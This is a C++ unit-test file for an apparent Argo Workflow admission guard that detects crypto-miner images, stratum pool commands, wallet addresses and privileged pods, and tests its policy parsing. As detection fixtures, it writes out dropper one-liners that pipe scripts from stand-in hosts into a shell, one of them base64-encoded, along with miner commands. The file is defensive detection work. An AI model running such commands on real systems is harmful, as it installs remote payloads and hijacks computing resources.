#include <gtest/gtest.h>

#include <set>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "guard/admission.h"
#include "guard/policy.h"
#include "guard/signatures.h"
#include "spec/loader.h"

namespace rampart::guard {
namespace {

using Json = nlohmann::json;

Json workflow_with(const Json& container) {
  return {
      {"apiVersion", "argoproj.io/v1alpha1"},
      {"kind", "Workflow"},
      {"metadata", {{"name", "w"}}},
      {"spec", {{"entrypoint", "main"}, {"templates", Json::array({{{"name", "main"}, {"container", container}}})}}}};
}

std::set<std::string> denied_rules(const Admission& a) {
  std::set<std::string> out;
  for (const auto& d : a.decisions) {
    if (d.action == Action::Deny) out.insert(d.rule);
  }
  return out;
}

TEST(SignaturesTest, KnownMinerImagesAreRecognisedWhateverTheirTagOrAccount) {
  for (const char* image :
       {"xmrig/xmrig", "metal3d/xmrig:latest", "kannix/monero-miner", "docker.io/lchaia/xmrig@sha256:abc",
        "ghcr.io/someone/cpuminer-opt:v3", "servethehome/monero_cpu_minergate", "nbminer", "t-rex:0.26",
        "lolminer/lolminer", "ethminer:1"}) {
    EXPECT_TRUE(is_known_miner_image(image)) << image;
  }
  for (const char* image : {"busybox", "alpine:3.18", "argoproj/argosay:v2", "python:3.12", "docker/whalesay",
                            "golang:1.21", "ghcr.io/org/data-mixer", "minio/minio", "nginx:1.25"}) {
    EXPECT_FALSE(is_known_miner_image(image)) << image;
  }
}

TEST(SignaturesTest, CommandLinesOfMinersAndDroppersAreRecognised) {
  auto rules_of = [](const std::string& text) {
    std::set<std::string> out;
    for (const auto& m : command_signatures(text)) out.insert(m.rule);
    return out;
  };
  EXPECT_TRUE(rules_of("./worker -o stratum+tcp://pool.example:3333 -u x").count("command.stratum"));
  EXPECT_TRUE(rules_of("--url stratum+ssl://10.0.0.1:443").count("command.stratum"));
  EXPECT_TRUE(rules_of("connect xmr.pool.minexmr.com:4444").count("command.pool-host"));
  EXPECT_TRUE(rules_of("app --donate-level 1 --threads 4").count("command.miner-flags"));
  EXPECT_TRUE(rules_of("run -o 1.2.3.4:3333 -u mywallet -p x").count("command.miner-flags"));
  EXPECT_TRUE(rules_of("--algo=rx/0").count("command.miner-flags"));
  EXPECT_TRUE(
      rules_of("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A")
          .count("command.wallet"));
  EXPECT_TRUE(rules_of("/tmp/xmrig --config c.json").count("command.miner-binary"));
  EXPECT_TRUE(rules_of("curl -fsSL http://x.example/i.sh | bash").count("command.dropper"));
  EXPECT_TRUE(rules_of("wget -q http://x/m -O /tmp/m; chmod +x /tmp/m; /tmp/m").count("command.dropper"));
  EXPECT_TRUE(
      rules_of("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaCAjIGhpZGRlbiBkcm9wcGVyIHBheWxvYWQ= | base64 -d | sh")
          .count("command.dropper"));
  for (const char* benign : {"echo hello world", "python -c 'print(1)'", "curl -s http://api.example/data -o out.json",
                             "sleep 30; echo done", "cowsay hello", "git clone https://github.com/argoproj/argo.git",
                             "-o output.txt -u user"}) {
    EXPECT_TRUE(command_signatures(benign).empty()) << benign;
  }
}

TEST(AdmissionTest, MinerWorkflowsAreDeniedNamingEachRule) {
  PolicyRules rules;
  auto a = admit_object(rules, workflow_with({{"image", "metal3d/xmrig"}, {"args", {"--donate-level=1"}}}));
  EXPECT_EQ(denied_rules(a), (std::set<std::string>{"image.miner", "command.miner-flags"}));
  EXPECT_NE(a.denial_message().find("image.miner at spec.templates[0].container.image"), std::string::npos);

  auto renamed = admit_object(
      rules, workflow_with(
                 {{"image", "alpine"}, {"command", {"/bin/worker"}}, {"args", {"-o", "stratum+tcp://1.2.3.4:3333"}}}));
  EXPECT_EQ(denied_rules(renamed), (std::set<std::string>{"command.stratum"}));

  auto privileged =
      admit_object(rules, workflow_with({{"image", "alpine"}, {"securityContext", {{"privileged", true}}}}));
  EXPECT_EQ(denied_rules(privileged), (std::set<std::string>{"pod.privileged"}));

  Json host = workflow_with({{"image", "alpine"}});
  host["spec"]["hostNetwork"] = true;
  host["spec"]["volumes"] = Json::array({{{"name", "root"}, {"hostPath", {{"path", "/"}}}}});
  host["spec"]["activeDeadlineSeconds"] = 10 * 86400;
  EXPECT_EQ(denied_rules(admit_object(rules, host)),
            (std::set<std::string>{"pod.host-namespace", "pod.host-path", "deadline.cap"}));

  Json hidden = workflow_with({{"image", "alpine"}, {"args", {"{{workflow.parameters.url}}"}}});
  hidden["spec"]["arguments"] = {{"parameters", Json::array({{{"name", "url"}, {"value", "stratum+tcp://p:1"}}})}};
  EXPECT_EQ(denied_rules(admit_object(rules, hidden)), (std::set<std::string>{"command.stratum"}));
}

TEST(AdmissionTest, StepsAreCheckedAfterSubstitutionWithoutQuotingEnvironmentValues) {
  PolicyRules rules;
  exec::StepRequest step;
  step.image = "alpine";
  step.command = {"sh", "-c"};
  step.args = {"./run -o 10.0.0.1:3333 -u wallet"};
  step.env = {{"POOL_PASSWORD", "stratum+tcp://user:S3cret@pool:1"}};
  auto a = admit_step(rules, step);
  EXPECT_EQ(denied_rules(a), (std::set<std::string>{"command.miner-flags", "command.stratum"}));
  EXPECT_EQ(a.denial_message().find("S3cret"), std::string::npos);
  exec::StepRequest ok;
  ok.image = "busybox";
  ok.command = {"echo", "hello"};
  EXPECT_FALSE(admit_step(rules, ok).denied());
}

TEST(PolicyTest, AllowListsNamespacesAndClearErrors) {
  Policy p = parse_policy(R"(
images:
  allow: ["ghcr.io/acme/", "busybox"]
  requireDigest: false
pods:
  missingLimits: deny
deadlines: {maxSeconds: 3600}
namespaces:
  lab:
    images: {allow: []}
    pods: {privileged: warn}
)",
                          "policy.yaml");
  const PolicyRules& d = p.for_namespace("argo");
  EXPECT_TRUE(denied_rules(admit_object(d, workflow_with({{"image", "alpine"}}))).count("image.not-allowed"));
  Json limited = workflow_with({{"image", "ghcr.io/acme/tool:1"}, {"resources", {{"limits", {{"cpu", "1"}}}}}});
  EXPECT_FALSE(admit_object(d, limited).denied());
  EXPECT_TRUE(denied_rules(admit_object(d, workflow_with({{"image", "busybox:1.36"}}))).count("pod.no-limits"));
  const PolicyRules& lab = p.for_namespace("lab");
  EXPECT_EQ(lab.max_deadline_seconds, 3600);  // inherited
  auto a = admit_object(lab, workflow_with({{"image", "alpine"}, {"securityContext", {{"privileged", true}}}}));
  EXPECT_FALSE(denied_rules(a).count("pod.privileged"));
  EXPECT_FALSE(denied_rules(a).count("image.not-allowed"));

  try {
    parse_policy("images:\n  alow: []\n", "p.yaml");
    FAIL() << "expected an error";
  } catch (const std::invalid_argument& e) {
    EXPECT_EQ(std::string(e.what()), "p.yaml:2:3: images.alow: unknown field");
  }
  EXPECT_THROW(parse_policy("pods: {privileged: maybe}\n", "p.yaml"), std::invalid_argument);
  EXPECT_THROW(parse_policy("commands: {deny: ['(']}\n", "p.yaml"), std::invalid_argument);
}

// False positives: every workflow of Argo's own examples passes the default policy.
TEST(AdmissionTest, TheConformanceCorpusPassesTheDefaultPolicy) {
  std::filesystem::path corpus = std::filesystem::path(RAMPART_SOURCE_DIR) / ".." / "shared" / "conformance";
  std::ifstream table(corpus / "expected.tsv");
  ASSERT_TRUE(table) << "conformance corpus not found at " << corpus;
  std::string line;
  std::getline(table, line);
  int checked = 0;
  PolicyRules rules;
  while (std::getline(table, line)) {
    std::string path = line.substr(0, line.find('\t'));
    auto loaded = spec::load_file((corpus / path).string());
    ASSERT_TRUE(loaded.errors.empty()) << path;
    for (const auto& doc : loaded.documents) {
      Admission a = admit_object(rules, doc.raw);
      EXPECT_FALSE(a.denied()) << path << ": " << a.denial_message();
    }
    ++checked;
  }
  EXPECT_EQ(checked, 89);
}

TEST(AdmissionTest, NetworkAccessIsAnOperatorsDecision) {
  Json wf = workflow_with({{"image", "busybox"}, {"command", {"wget", "http://example.com"}}});
  wf["metadata"]["annotations"] = {{"rampart.io/network", "enabled"}};
  Policy policy;
  EXPECT_TRUE(denied_rules(admit_object(policy.defaults, wf)).count("pod.network"));
  exec::StepRequest step;
  step.image = "busybox";
  step.network = true;
  EXPECT_TRUE(denied_rules(admit_step(policy.defaults, step)).count("pod.network"));
  step.network = false;
  step.security.privileged = true;
  EXPECT_TRUE(denied_rules(admit_step(policy.defaults, step)).count("pod.privileged"));
  Policy open = parse_policy("pods: {network: allow, privileged: allow}\n", "p.yaml");
  EXPECT_FALSE(admit_object(open.defaults, wf).denied());
  EXPECT_FALSE(admit_step(open.defaults, step).denied());
}

}  // namespace
}  // namespace rampart::guard
